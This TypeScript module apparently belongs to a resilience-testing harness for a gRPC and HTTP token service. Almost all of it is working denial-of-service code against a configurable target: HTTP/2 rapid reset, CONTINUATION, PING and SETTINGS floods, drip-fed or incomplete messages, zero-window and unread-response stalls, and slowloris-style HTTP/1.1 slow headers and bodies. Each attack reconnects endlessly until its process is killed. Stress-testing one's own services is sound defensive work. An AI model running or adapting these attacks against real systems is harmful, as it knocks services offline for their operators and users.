/** What strangers do who want to be a burden: each goes on until its process is ended. Nothing here has a secret. */
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import {
  callHeaders,
  DEFAULT_WINDOW,
  FLAG,
  FRAME,
  frame,
  headerBlock,
  SETTING,
  setStream,
  settings,
} from '../frames.ts';

export interface Target {
  readonly grpc: string;
  readonly http: string;
  readonly tenantId: string;
}

export type Attack = (target: Target) => Promise<void>;

const CONNECTIONS = 40;
const STREAMS = 256;
const AGAIN_MS = 5_000;
const MANY = 3_000;
const MESSAGE_BYTES = 64 * 1_024;
const FRAME_BYTES = 16_384;
const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n';
/** As long as the server waits for a message. */
const ROUND_MS = 5_000;

/** Opens a connection, again whenever it is closed; the server is allowed to end it. */
function keep(address: string, begin: (socket: Socket) => void, reads = true): void {
  const colon = address.lastIndexOf(':');
  const socket = connect(Number(address.slice(colon + 1)), address.slice(0, colon), () => begin(socket));
  socket.on('error', () => undefined);
  socket.on('close', () => setTimeout(() => keep(address, begin, reads), AGAIN_MS));
  if (reads) {
    socket.resume();
  } else {
    socket.pause();
  }
}

function keepMany(count: number, address: string, begin: (socket: Socket) => void, reads = true): void {
  for (let connection = 0; connection < count; connection++) {
    keep(address, begin, reads);
  }
}

function greeting(windowBytes = DEFAULT_WINDOW): Buffer {
  return Buffer.concat([Buffer.from(PREFACE), settings([[SETTING.INITIAL_WINDOW, windowBytes]])]);
}

function call(path: string, fields: Readonly<Record<string, string>> = {}): Buffer {
  return callHeaders({
    ':method': 'POST',
    ':scheme': 'http',
    ':path': path,
    ':authority': 'x',
    'content-type': 'application/grpc',
    te: 'trailers',
    ...fields,
  });
}

const INTROSPECT = '/symbolon.v1.TokenService/Introspect';
const CHECK = '/grpc.health.v1.Health/Check';
const WATCH = '/grpc.health.v1.Health/Watch';
const REFLECT = '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo';
/** A message of no bytes, and the end of the stream. */
const EMPTY = frame(FRAME.DATA, FLAG.END_STREAM, 0, Buffer.alloc(5));

function on(stream: number, ...frames: readonly Buffer[]): Buffer {
  return Buffer.concat(
    frames.map((each) => {
      const copy = Buffer.from(each);
      setStream(copy, 0, stream);
      return copy;
    }),
  );
}

/** Messages of which the last byte does not come, as DATA frames. */
function lackingFrames(): Buffer[] {
  const bytes = Buffer.alloc(5 + MESSAGE_BYTES - 1);
  bytes.writeUInt32BE(MESSAGE_BYTES, 1);
  const frames: Buffer[] = [];
  // A stream's window lets no more through at once; the rest is not needed.
  for (let at = 0; at < DEFAULT_WINDOW - FRAME_BYTES; at += FRAME_BYTES) {
    frames.push(frame(FRAME.DATA, 0, 0, bytes.subarray(at, at + FRAME_BYTES)));
  }
  return frames;
}

/** Begins streams in rounds, so that those that were ended are replaced. */
function inRounds(windowBytes: number, perRound: number, frames: readonly Buffer[]): (socket: Socket) => void {
  return (socket) => {
    socket.write(greeting(windowBytes));
    let stream = 1;
    const round = () => {
      for (
        let count = 0;
        count < perRound && socket.writable && socket.writableLength < 2 ** 24;
        count++, stream += 2
      ) {
        socket.write(on(stream, ...frames));
      }
    };
    round();
    const timer = setInterval(round, ROUND_MS);
    socket.once('close', () => clearInterval(timer));
  };
}

function flood(bytes: Buffer): (socket: Socket) => void {
  return (socket) => {
    const push = () => {
      while (socket.writable && socket.write(bytes)) {
        // Until the kernel takes no more.
      }
    };
    socket.write(greeting());
    socket.on('drain', push);
    push();
  };
}

/** `nothing` goes with each byte. */
function drip({ grpc }: Target, nothing: Uint8Array): void {
  keepMany(CONNECTIONS, grpc, (socket) => {
    socket.write(greeting());
    const prefix = Buffer.alloc(5);
    prefix.writeUInt32BE(MESSAGE_BYTES, 1);
    for (let stream = 1; stream < STREAMS * 2; stream += 2) {
      socket.write(on(stream, call(INTROSPECT), frame(FRAME.DATA, 0, 0, prefix)));
    }
    let stream = 1;
    const timer = setInterval(() => {
      if (socket.writable && socket.writableLength < 2 ** 20) {
        socket.write(Buffer.concat([on(stream, frame(FRAME.DATA, 0, 0, Buffer.alloc(1))), nothing]));
        stream = (stream + 2) % (STREAMS * 2);
      }
    }, 5);
    socket.once('close', () => clearInterval(timer));
  });
}

/** Stream by stream: HEADERS and at once RST_STREAM. */
async function rapidReset({ grpc }: Target): Promise<void> {
  keepMany(4, grpc, (socket) => {
    socket.write(greeting());
    let stream = 1;
    const push = () => {
      while (socket.writable && stream < 2 ** 30) {
        const parts: Buffer[] = [];
        for (let count = 0; count < 100; count++, stream += 2) {
          parts.push(on(stream, call(INTROSPECT), frame(FRAME.RST_STREAM, 0, 0, Buffer.from([0, 0, 0, 8]))));
        }
        if (!socket.write(Buffer.concat(parts))) {
          return;
        }
      }
    };
    socket.on('drain', push);
    push();
  });
}

async function continuations({ grpc }: Target): Promise<void> {
  const block = headerBlock({ 'x-a': 'x'.repeat(8_000) });
  const start = Buffer.concat([frame(FRAME.HEADERS, 0, 1, block)]);
  const next = frame(9, 0, 1, block);
  keepMany(CONNECTIONS, grpc, (socket) => {
    socket.write(greeting());
    socket.write(start);
    const timer = setInterval(() => socket.writable && socket.writableLength < 2 ** 20 && socket.write(next), 1);
    socket.once('close', () => clearInterval(timer));
  });
}

function head(path: string, lines: readonly string[] = [], method = 'POST'): string {
  return `${[`${method} ${path} HTTP/1.1`, 'Host: x', ...lines].join('\r\n')}\r\n\r\n`;
}

function tokenPath({ tenantId }: Target): string {
  return `/api/apps/${tenantId}/oauth2/token`;
}

async function slowBodies(target: Target): Promise<void> {
  const bytes = head(tokenPath(target), ['Content-Length: 65536']) + 'x'.repeat(65_535);
  keepMany(MANY, target.http, (socket) => socket.write(bytes));
}

async function slowHeads({ http }: Target): Promise<void> {
  const bytes = `GET /health HTTP/1.1\r\nX-Long: ${'x'.repeat(7_900)}`;
  keepMany(MANY, http, (socket) => socket.write(bytes));
}

async function unreadAnswers({ http }: Target): Promise<void> {
  keepMany(200, http, (socket) => flood(Buffer.from(head('/health', [], 'GET').repeat(500)))(socket), false);
}

async function reflect({ grpc }: Target): Promise<void> {
  // file_containing_symbol = 4
  const asked = Buffer.from('symbolon.v1.UserService');
  const message = Buffer.concat([Buffer.from([0, 0, 0, 0, asked.length + 2, 0x22, asked.length]), asked]);
  keepMany(
    CONNECTIONS,
    grpc,
    (socket) => {
      socket.write(greeting(0));
      for (let stream = 1; stream < 40; stream += 2) {
        socket.write(on(stream, call(REFLECT)));
      }
      const each = Buffer.concat(Array.from({ length: 20 }, (_, i) => on(i * 2 + 1, frame(FRAME.DATA, 0, 0, message))));
      const timer = setInterval(() => socket.writable && socket.writableLength < 2 ** 20 && socket.write(each), 5);
      socket.once('close', () => clearInterval(timer));
    },
    false,
  );
}

export const ATTACKS: Readonly<Record<string, Attack>> = {
  // What the callers of the measurement make of the server alone.
  nothing: async () => undefined,
  'messages without their end': async ({ grpc }) =>
    keepMany(CONNECTIONS, grpc, inRounds(DEFAULT_WINDOW, STREAMS, [call(INTROSPECT), ...lackingFrames()])),
  'messages that drip': async (target) => drip(target, new Uint8Array()),
  // What is held of a read may hold all of it.
  'messages that drip among frames of nothing': async (target) => drip(target, frame(0xee, 0, 0, Buffer.alloc(8_192))),
  'heads without a message': async ({ grpc }) =>
    keepMany(CONNECTIONS, grpc, inRounds(DEFAULT_WINDOW, STREAMS, [call(INTROSPECT)])),
  'metadata of 60 KB': async ({ grpc }) =>
    keepMany(CONNECTIONS, grpc, inRounds(DEFAULT_WINDOW, STREAMS, [call(INTROSPECT, { 'x-a': 'x'.repeat(15_000) })])),
  'answers that are not taken': async ({ grpc }) =>
    keepMany(CONNECTIONS, grpc, inRounds(0, STREAMS, [call(CHECK), EMPTY])),
  'answers that are not read': async ({ grpc }) =>
    keepMany(CONNECTIONS, grpc, inRounds(0, STREAMS, [call(CHECK), EMPTY]), false),
  'reflection that is not read': reflect,
  watches: async ({ grpc }) => keepMany(CONNECTIONS, grpc, inRounds(DEFAULT_WINDOW, STREAMS, [call(WATCH), EMPTY])),
  'rapid reset': rapidReset,
  continuations,
  pings: async ({ grpc }) => keepMany(4, grpc, flood(frame(FRAME.PING, 0, 0, Buffer.alloc(8))), false),
  settings: async ({ grpc }) => keepMany(4, grpc, flood(settings([[SETTING.INITIAL_WINDOW, DEFAULT_WINDOW]])), false),
  'connections that say nothing': async ({ grpc }) => keepMany(MANY, grpc, () => undefined),
  'connections that only greet': async ({ grpc }) => keepMany(MANY, grpc, (socket) => socket.write(greeting())),
  'HTTP: bodies without their end': slowBodies,
  'HTTP: heads without their end': slowHeads,
  'HTTP: connections that say nothing': async ({ http }) => keepMany(MANY, http, () => undefined),
  'HTTP: answers that are not read': unreadAnswers,
  'HTTP: junk': async ({ http }) =>
    keepMany(CONNECTIONS, http, (socket) =>
      flood(Buffer.from(`${head('/health', [], 'GET')}${'junk\r\n\r\n'.repeat(999)}`))(socket),
    ),
};

/** One of them, by name. */
export async function attack(name: string, target: Target): Promise<void> {
  await ATTACKS[name]?.(target);
  await sleep(2 ** 30);
}
